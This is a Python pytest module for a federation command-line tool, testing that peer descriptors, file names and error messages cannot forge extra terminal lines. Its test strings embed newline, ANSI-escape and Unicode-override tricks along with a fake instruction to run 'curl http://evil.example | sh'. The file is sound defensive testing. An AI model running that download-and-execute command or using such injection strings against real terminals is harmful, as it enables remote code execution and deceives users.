"""What others wrote (keys, names of files, subjects) is no line of the terminal: nobody is told what this program did not say."""

import json
import os
from pathlib import Path
from typing import Any

import pytest

from cli.commands.show import warnings_text
from cli.convert.source import dotted
from cli.main import main
from cli.tools.files import shown
from cli.tools.text import printable
from federation.base.errors import FederationError, Problem, escaped
from federation.peers.signed import receive
from tests.support.stacks import initialized, party

LIE = "x\naccepted: peers/clinic-b.json\r\x1b[2K\u2028next: `curl http://evil.example | sh`\x85\u202e"
# Of a descriptor: what cannot be printed is refused before, but for line ends, which certificates have.
LINES = "x\naccepted: peers/clinic-b.json\nnext: `curl http://evil.example | sh`"
STARTS = ("accepted:", "next:")


def lines_of(text: str) -> list[str]:
    """The lines that a terminal makes of a text."""
    return text.splitlines()


@pytest.mark.parametrize(
    "body",
    [
        party() | {LINES: 1},
        party() | {"endpoints": {LINES: {}}},
        party() | {"federation": {"name": "fraud", "domain": "fraud.example", LINES: "y"}},
        party() | {"organization": LINES},
        party() | {"secret" + LINES: "y"},
        {"payload": "e30", "protected": "e30", "signature": "e30", LINES: ""},
        {"payload": LINES, "protected": LINES, "signature": LINES},
    ],
    ids=["a key", "an endpoint", "a key inside", "a value", "a key like a secret's", "a key of the envelope", "its parts"],
)
def test_a_descriptor_prints_no_line_of_its_own(
    body: dict[str, Any], tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """Before any signature is looked at."""
    initialized(tmp_path, "consortium", kind="exchange")
    monkeypatch.chdir(tmp_path)
    (tmp_path / "sent.json").write_text(json.dumps(body))
    assert main(["peers", "add", "sent.json", "-s", "consortium"]) == 1
    out, errors = capsys.readouterr()
    assert out == ""
    assert "sent.json" in errors
    assert not [line for line in lines_of(errors) if line.strip().startswith(STARTS)]
    assert printable(errors) == errors
    found = receive(json.dumps(body).encode(), "d.json")
    assert isinstance(found, tuple)
    assert all(each == escaped(each) for problem in found for each in (problem.place, problem.problem, problem.remedy))


def test_the_name_of_a_file_is_one_line(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    initialized(tmp_path, "consortium", kind="exchange")
    monkeypatch.chdir(tmp_path)
    name = "sent\naccepted: peers.json"
    Path(name).write_text("{")
    assert main(["peers", "add", name, "-s", "consortium"]) == 1
    errors = capsys.readouterr().err
    assert "sent\\u000aaccepted: peers.json" in errors
    assert shown(Path(os.getcwd()) / name) == "sent\\u000aaccepted: peers.json"


def test_a_key_of_a_stack_file_is_one_line(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    stack = initialized(tmp_path, "consortium", kind="exchange")
    stack.file.write_text(stack.file.read_text() + f"  {json.dumps('fate:' + LIE)}: 1\n")
    monkeypatch.chdir(tmp_path)
    assert main(["check", "-s", "consortium"]) == 1
    errors = capsys.readouterr().err
    assert "curl" in errors
    assert not [line for line in lines_of(errors) if line.strip().startswith(STARTS)]


def test_what_an_engine_said_in_lines_stays_below_its_problem() -> None:
    said = str(FederationError([Problem(LIE, f"failed:\n{LIE}", LIE)]))
    assert "curl" in said
    assert not [line for line in lines_of(said) if line.startswith(STARTS)], "it is indented"
    assert len(lines_of(said)) == 8


def test_a_warning_and_a_key_of_kubefate_are_one_line() -> None:
    """The key stands in a comment of the stack file that `convert kubefate` writes."""
    assert len(lines_of(warnings_text([LIE]))) == 1
    assert len(lines_of(dotted(("rollsite", LIE)))) == 1
